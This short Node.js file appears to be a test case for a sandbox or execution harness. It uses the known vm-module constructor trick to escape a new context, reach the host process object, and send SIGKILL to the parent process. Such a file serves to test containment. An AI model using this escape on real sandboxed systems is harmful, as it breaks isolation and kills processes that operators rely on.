// tries: leave a context of its own for the process behind it
// endings: exited
// levels: every
const vm = require('vm');
const found = vm.runInNewContext('this.constructor.constructor("return process")()', {});
try { found.kill(found.ppid, 'SIGKILL'); } catch (e) {}
